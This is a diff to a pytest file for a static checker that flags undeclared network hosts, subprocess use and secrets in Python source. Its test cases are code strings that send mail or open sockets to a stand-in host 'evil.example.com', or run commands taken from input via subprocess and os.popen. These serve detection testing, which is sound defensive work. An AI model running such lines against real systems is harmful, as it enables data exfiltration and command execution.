@@ -180,13 +180,76 @@ def test_a_second_host_is_refused_by_its_name() -> None:
         "        return requests.get(self.base)\ndef f(x):\n    return C().go()",
         "from urllib import request\ndef f(x):\n    return request.urlopen(request.Request('https://evil.example.com'))",
         "import http.client\ndef f(x):\n    return http.client.HTTPSConnection('evil.example.com')",
-        "import socket\ndef f(x):\n    return socket.create_connection(('evil.example.com', 443))",
     ],
 )
 def test_a_host_that_is_not_declared_is_followed_into_the_request(source: str) -> None:
     found = look(source, grant=ACME, packages=("requests", "httpx"), effect="reads")
     assert {one.rule for one in found} == {"host"}
     assert "'evil.example.com:443' is not declared" in found[0].message
+
+
+MAIL = Grant(hosts=("tcp://mail.acme.io:25",))
+
+
+@pytest.mark.parametrize(
+    ("source", "named"),
+    [
+        (
+            "import smtplib\ndef f(x):\n    smtplib.SMTP('evil.example.com').sendmail('a', 'b', x)",
+            "evil.example.com:25",
+        ),
+        ("import smtplib as s\ndef f(x):\n    s.SMTP_SSL(host='evil.example.com')", "evil.example.com:465"),
+        ("from imaplib import IMAP4_SSL\ndef f(x):\n    return IMAP4_SSL('evil.example.com', 9)", "evil.example.com:9"),
+        ("import socket\ndef f(x):\n    socket.create_connection(('evil.example.com', 5))", "evil.example.com:5"),
+        ("import socket\ndef f(x):\n    s = socket.socket()\n    s.connect(('10.0.0.1', 5))", "10.0.0.1:5"),
+        (
+            "import asyncio\nasync def g():\n    await asyncio.open_connection('evil.example.com', 7)",
+            "evil.example.com:7",
+        ),
+    ],
+)
+def test_a_protocol_of_its_own_needs_its_tcp_host(source: str, named: str) -> None:
+    for grant in (NO_POWERS, ACME):  # HTTP to a host opens no raw connection
+        (found,) = look(source, grant=grant, effect="writes")
+        assert found.rule == "host"
+        assert f"declare 'tcp://{named}' in powers.hosts" in found.message
+    (found,) = look(source, grant=MAIL, effect="writes")
+    assert f"'tcp://{named}' is not declared (declared: tcp://mail.acme.io:25)" in found.message
+    assert look(source, grant=Grant(hosts=(f"tcp://{named}",)), effect="writes") == []
+
+
+def test_a_driver_of_a_database_needs_a_tcp_host_and_a_time_limit_needs_none() -> None:
+    source = "import psycopg\ndef f(host):\n    return psycopg.connect(host=host)"
+    (found,) = look(source, packages=("psycopg",), effect="writes")
+    assert "tcp://" in found.message
+    assert look(source, packages=("psycopg",), grant=MAIL, effect="writes") == []
+    timed = FETCH.replace("import requests\n", "import requests\nimport socket\nsocket.setdefaulttimeout(5)\n")
+    assert look(timed, grant=ACME, packages=("requests",), effect="reads") == []
+
+
+def test_http_needs_an_http_host_beside_a_tcp_one() -> None:
+    (found,) = look(FETCH, grant=MAIL, packages=("requests",), effect="writes")
+    assert "'api.acme.io:443'" in found.message
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import subprocess\ndef f(x):\n    return subprocess.run([x], capture_output=True).stdout",
+        "import os\ndef f(x):\n    return os.popen(x).read()",
+        "import os\ndef f():\n    return os.fork()",
+        "import os\ndef f():\n    os.execv('/bin/x', ['x'])",
+        "import multiprocessing\ndef f():\n    return multiprocessing.Pool(2)",
+        "import asyncio\nasync def g():\n    await asyncio.create_subprocess_exec('x')",
+        "from concurrent.futures import ProcessPoolExecutor\ndef f():\n    return ProcessPoolExecutor()",
+    ],
+)
+def test_other_programs_need_the_power_to_start_them(source: str) -> None:
+    found = look(source)
+    assert found
+    assert all("declare powers.subprocess" in one.message for one in found)
+    assert look(source, grant=Grant(subprocess=True)) == []
+    assert rules("import ctypes\neval('1')", grant=Grant(subprocess=True)) == {"import", "name"}, "and nothing more"
 
 
 def test_a_link_in_the_answer_is_no_host() -> None:
@@ -228,7 +291,7 @@ def test_a_package_may_bring_names_that_are_not_its_own() -> None:
 
 def test_granted_paths_and_secrets_are_not_refused() -> None:
     source = "import os\ndef f():\n    return open('/data/in/x.csv').read() + os.environ['WEATHER_KEY']"
-    assert rules(source, grant=Grant(reads=("/data",), secrets=("WEATHER_KEY",))) == set()
+    assert rules(source, grant=Grant(reads=("/data",), plain_secrets=("WEATHER_KEY",))) == set()
     assert rules(source) == {"path", "secret"}
 
 
